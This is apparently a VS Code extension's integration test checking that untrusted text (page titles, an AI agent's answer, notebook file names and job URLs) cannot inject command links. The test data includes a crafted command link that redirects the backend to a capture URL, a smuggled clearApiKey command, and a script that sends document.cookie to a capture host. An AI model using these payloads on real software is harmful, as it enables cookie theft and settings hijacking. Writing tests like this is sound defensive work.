// Text the extension does not control (a scraped page's <title>, the agent's answer) holds a
// `command:` link built to look like one of the extension's own. The notification shows it as
// text, and "clicking where the link would be" (running every command link VS Code would make
// of the message) changes nothing: the backend stays where it was.
import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { ExtensionApi } from '../../src/extension-api';
import { closeEditors, CMD, config, extensionApi, resetSettings, stopAllSessions, useBackend, waitFor } from './support/extension';
import { Stubs, type ShownMessage } from './support/stubs';
import { atEnd, getWorld, type World } from './support/world';

// VS Code's own rule for links in notification messages (vs/base/common/linkedText.ts).
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const EVIL_LINK = '[Open the report](command:firecrawlInteract.switchBackend?[{"to":"custom","url":"http://127.0.0.1:9/capture"}] "Open the report")';

/** Runs each command link VS Code would render in `text`, as a click on it would. */
async function clickLinks(text: string): Promise<string[]> {
  const hrefs = [...text.matchAll(VSCODE_LINK)].map((m) => m[2]).filter((h) => h.startsWith('command:') && !h.startsWith(`command:${CMD.openLiveView}`));
  for (const href of hrefs) {
    const [id, query] = href.slice('command:'.length).split('?');
    await vscode.commands.executeCommand(id, ...(query ? (JSON.parse(decodeURIComponent(query)) as unknown[]) : []));
  }
  return hrefs;
}

describe('outside text in notifications (issue 16)', function () {
  let api: ExtensionApi;
  let world: World;
  const stubs = new Stubs();

  before(async function () {
    this.timeout(180_000);
    world = await getWorld();
    api = await extensionApi();
    await useBackend(api, world.engine);
    await stopAllSessions(api);
  });

  afterEach(() => stubs.restore());

  after(async function () {
    this.timeout(60_000);
    await stopAllSessions(api);
    await resetSettings();
  });

  it("a page title holding a command: link is shown as text; clicking where it would be leaves apiUrl alone", async () => {
    const shown: ShownMessage[] = stubs.notifications();
    const before = config().inspect<string>('apiUrl')?.globalValue;
    await vscode.commands.executeCommand(CMD.scrapeUrl, { url: `${world.fixtures.url}/command-title.html` });
    const current = shown.find((m) => m.message.includes('is now the current job'));
    assert.ok(current, `no "current job" notification; saw ${JSON.stringify(shown)}`);
    assert.ok(current.message.includes('Shop'), current.message);
    assert.deepEqual([...current.message.matchAll(VSCODE_LINK)], [], `the title became a link: ${current.message}`);
    for (const m of shown) assert.deepEqual(await clickLinks(m.message), [], m.message);
    assert.equal(config().inspect<string>('apiUrl')?.globalValue, before);
    assert.equal(await api.effectiveApiUrl(), world.engine.url.replace(/\/$/, ''));
  });

  it("an agent answer holding a command: link is shown as text beside the extension's own links", async () => {
    world.llmScript.push({ toolCalls: [{ name: 'finish', arguments: { answer: `Done. ${EVIL_LINK}` } }] });
    const shown: ShownMessage[] = stubs.notifications((m) => (m.buttons.includes('Open the report') ? 'Open the report' : undefined));
    stubs.inputBox(() => 'Summarise the page.');
    const before = config().inspect<string>('apiUrl')?.globalValue;
    await vscode.commands.executeCommand(CMD.askPage);
    const answer = shown.find((m) => m.message.startsWith('Answer: Done.'));
    assert.ok(answer, `the answer was not shown; saw ${JSON.stringify(shown)}`);
    assert.ok(!answer.buttons.includes('Open the report'), `the answer's link became an action: ${JSON.stringify(answer)}`);
    assert.deepEqual([...answer.message.matchAll(VSCODE_LINK)], [], answer.message);
    assert.ok(answer.message.includes('Open the report'), 'the answer text is still shown');
    assert.equal(config().inspect<string>('apiUrl')?.globalValue, before);
    assert.equal(await api.effectiveApiUrl(), world.engine.url.replace(/\/$/, ''));
    const record = api.notifications().find((n) => n.message.startsWith('Answer: Done.'));
    assert.ok(record && !record.message.includes('['), JSON.stringify(record));
  });

  it('a .fcnb with a text/html output opens without it; its file name and job URL in the warning stay text', async () => {
    const shown: ShownMessage[] = stubs.notifications();
    const dir = mkdtempSync(join(tmpdir(), 'interact-untrusted-'));
    atEnd(() => rmSync(dir, { recursive: true, force: true }));
    const path = join(dir, 'shop[Open the report](command:firecrawlInteract.clearApiKey).fcnb');
    const html = '<script>fetch("http://127.0.0.1:9/capture?" + document.cookie)</script>';
    const cells = [{ kind: 'code', language: 'javascript', source: ['1'], outputs: [{ items: [{ mime: 'text/html', text: [html] }] }, { items: [{ mime: 'text/plain', text: ['kept'] }] }] }];
    const job = { id: '9f0e8d7c-6b5a-4c3d-8e1f-0a1b2c3d4e5f', url: 'https://example.org/[Open the report](command:firecrawlInteract.clearApiKey)' };
    writeFileSync(path, JSON.stringify({ format: 'firecrawl-interact-notebook', version: 1, job, cells }));
    try {
      const nb = await vscode.workspace.openNotebookDocument(vscode.Uri.file(path));
      await vscode.window.showNotebookDocument(nb);
      const mimes = nb.cellAt(0).outputs.map((o) => o.items.map((i) => i.mime));
      assert.deepEqual(mimes, [['text/plain']], 'the text/html output was loaded');
      assert.match(api.logText(), /cell 1: an output of type "text\/html" was left out/);
      await waitFor(() => shown.some((m) => m.message.includes('The job of shop')), 10_000, 'the warning about the unknown job');
      const warning = shown.find((m) => m.message.includes('The job of shop')) as ShownMessage;
      assert.deepEqual([...warning.message.matchAll(VSCODE_LINK)], [], warning.message);
      assert.deepEqual(await clickLinks(warning.message), []);
    } finally {
      await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor').then(undefined, () => undefined);
      await closeEditors();
    }
  });
});
